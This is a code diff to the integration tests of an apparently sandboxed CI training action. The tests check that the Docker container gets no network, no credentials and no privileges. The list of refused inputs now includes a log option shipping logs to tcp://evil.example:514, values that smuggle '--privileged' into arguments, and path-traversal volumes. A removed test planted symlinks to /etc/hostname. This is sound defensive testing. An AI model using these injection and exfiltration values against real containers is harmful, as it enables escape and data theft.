@@ -16,7 +16,8 @@ from canary.gate.records import load_records
 from tests.integration.composite import Runner
 from tests.integration.conftest import settings
 
-CPU = {"gpus": "none", "image": "registry.example/canary@sha256:00", "config": "canary.yaml"}
+IMAGE = f"registry.example/canary@sha256:{'0' * 64}"
+CPU = {"gpus": "none", "image": IMAGE, "config": "canary.yaml"}
 
 
 def git(folder: Path, *words: str) -> str:
@@ -65,8 +66,7 @@ def test_the_docker_half_trains_without_token_socket_or_network(runner: Runner) 
     (cache / "hub").mkdir(parents=True)
     (cache / "token").write_text("hf_secret")
     setup = 'python -c \'import sys; open(sys.prefix + "/made", "w").close()\''
-    done = runner.step(
-        "Train",
+    done = runner.train(
         CPU | {"setup": setup, "env": "MODE=fast\nLEVEL=2", "model-cache": str(cache)},
     )
     assert done.returncode == 0, done.stdout + done.stderr
@@ -83,9 +83,9 @@ def test_the_docker_half_trains_without_token_socket_or_network(runner: Runner) 
         assert "--read-only" in argv
         assert "--privileged" not in text
         assert f"{runner.workspace}:/workspace:ro" in argv
-        assert f"{cache}/hub:/models/hub:ro" in argv
         assert not [word for word in argv if word.startswith(f"{cache}:")]
         assert argv[argv.index("--user") + 1].count(":") == 1
+    assert f"{cache}/hub:/models/hub:ro" in second
     assert first[-2:] == ["gate", "setup"]
     assert second[-2:] == ["gate", "run"]
     assert "--network" not in first
@@ -101,13 +101,13 @@ def test_the_docker_half_trains_without_token_socket_or_network(runner: Runner) 
     assert part.notes == ["max_steps: 6 in this change holds after the merge; 8 was run"]
     assert runner.outputs()["record-path"] == str(runner.temp / "canary-records")
     assert git(runner.workspace, "status", "--porcelain") == "", "the checkout is untouched"
-    assert not list(runner.temp.glob("canary-????????")), "the scratch folder is gone"
+    assert [path.name for path in runner.temp.iterdir()] == ["canary-records"], "nothing else stays"
 
 
 def test_the_log_of_the_training_cannot_speak_to_the_runner(runner: Runner) -> None:
     runner.with_docker()
     (runner.root / "docker" / "refuse").write_text("::set-output name=verdict::pass")
-    done = runner.step("Train", CPU)
+    done = runner.train(CPU)
     lines = done.stdout.splitlines()
     begin = next(line for line in lines if line.startswith("::stop-commands::"))
     token = begin.removeprefix("::stop-commands::")
@@ -163,7 +163,7 @@ def test_a_machine_that_cannot_train_is_an_error_that_says_what_to_install(
     runner: Runner, machine: Callable[[Runner], None], said: str
 ) -> None:
     machine(runner)
-    done = runner.step("Train", CPU | {"gpus": "all"})
+    done = runner.train(CPU | {"gpus": "all"})
     assert done.returncode == 4
     assert said in done.stderr
     assert said in load_records(runner.temp / "canary-records").manifest.error
@@ -243,7 +243,7 @@ def test_a_checkout_that_kept_its_credentials_is_refused(
 ) -> None:
     runner.with_docker()
     leave(runner.workspace)
-    done = runner.step("Train", CPU)
+    done = runner.train(CPU)
     assert done.returncode == 2
     assert "persist-credentials: false" in done.stderr
     assert not runs(runner)
@@ -268,18 +268,34 @@ def test_a_checkout_that_kept_its_credentials_is_refused(
         ("docker-args", "--device=/dev/sda"),
         ("docker-args", "--group-add=docker"),
         ("docker-args", "--detach"),
+        ("docker-args", "--log-driver=syslog"),
+        ("docker-args", "--log-opt=syslog-address=tcp://evil.example:514"),
+        ("docker-args", "--log-opt=max-size=10m --privileged"),
+        ("docker-args", "--label=rlhf-canary.runner=another"),
+        ("docker-args", "--volume=/srv:/workspace:ro"),
+        ("docker-args", "--volume=/srv:/x/../records:ro"),
         ("network", "host"),
         ("network", "container:abc"),
         ("image", "--privileged"),
+        ("image", "name@sha256:00 --privileged"),
         ("env", "GITHUB_TOKEN=x"),
         ("env", "MY_SECRET=x"),
         ("env", "hf_token=x"),
         ("env", "WANDB_API_KEY=x"),
         ("env", "AWS_ACCESS_KEY_ID=x"),
         ("env", "ACTIONS_RUNTIME_URL=x"),
+        ("env", "GH_PAT=x"),
+        ("env", "NPM_AUTH=x"),
+        ("env", "TOKEN_HF=x"),
+        ("env", "DATABASE_URL=x"),
+        ("env", "SSH_KEY=x"),
+        ("env", "SLACK_WEBHOOK_URL=x"),
+        ("env", "INDEX=https://user:word@example.org/simple"),
         ("env", "PATH"),
         ("engine", "podman"),
         ("timeout-minutes", "soon"),
+        ("timeout-minutes", "000"),
+        ("timeout-minutes", "99999999999999999999"),
         ("model-cache", "/nowhere"),
         ("image", ""),
     ],
@@ -288,7 +304,7 @@ def test_inputs_that_open_the_container_or_cannot_be_are_refused(
     runner: Runner, name: str, value: str
 ) -> None:
     runner.with_docker()
-    done = runner.step("Train", CPU | {name: value})
+    done = runner.train(CPU | {name: value})
     assert done.returncode == 2, done.stderr
     said = done.stderr.strip().splitlines()[-1]
     assert said.startswith("canary: ")
@@ -300,28 +316,13 @@ def test_inputs_that_open_the_container_or_cannot_be_are_refused(
 def test_further_docker_arguments_reach_docker(runner: Runner) -> None:
     runner.with_docker()
     (runner.root / "docker" / "refuse").write_text("enough")
-    given = "--memory=8g\n--cpus=2\n--volume=/srv/data:/data:ro"
-    runner.step("Train", CPU | {"docker-args": given, "env": "TOKENIZERS_PARALLELISM=false"})
+    given = "--memory=8g\n--cpus=2\n--log-opt=max-size=10m\n--volume=/srv:/data:ro"
+    harmless = "TOKENIZERS_PARALLELISM=false\nMAX_TOKENS=512\nAUTHOR=ada\nMONKEY=1"
+    done = runner.train(CPU | {"docker-args": given, "env": harmless})
+    assert done.returncode == 4, done.stderr
     (argv,) = runs(runner)
     place = argv.index("--memory=8g")
-    assert argv[place : place + 3] == given.split("\n")
-
-
-def test_what_the_container_leaves_cannot_reach_out_of_the_records(runner: Runner) -> None:
-    """A link in the place of the manifest, a link to be uploaded, a hard link."""
-    victim = runner.root / "victim"
-    victim.write_text("mine")
-    records = runner.temp / "canary-records"
-    runner.install(
-        "docker",
-        f"""if [ "$1" = info ]; then echo 'Server Version: 28'; exit 0; fi
-ln -s {victim} {records}/gate.json; ln -s /etc/hostname {records}/leak.txt
-ln {victim} {records}/hard.txt; mkfifo {records}/pipe; exit 3""",
-    )
-    assert runner.step("Train", CPU).returncode == 4
-    assert victim.read_text() == "mine"
-    assert sorted(path.name for path in records.iterdir()) == ["gate.json"]
-    assert "exit code 3" in load_records(records).manifest.error
+    assert argv[place : place + 4] == given.split("\n")
 
 
 @pytest.mark.train
@@ -330,7 +331,7 @@ def test_without_docker_the_command_line_runs_in_a_short_environment(runner: Run
     runner.install("canary", f'env > "{runner.root}/seen"; exec python3 -m canary.cli "$@"')
     python = Path(__import__("sys").executable)
     runner.install("python3", f'exec "{python}" "$@"')
-    done = runner.step("Train", CPU | {"engine": "none", "image": ""})
+    done = runner.train(CPU | {"engine": "none", "image": ""})
     seen = (runner.root / "seen").read_text()
     assert "ghs_" not in seen
     assert "neverSeen" not in seen
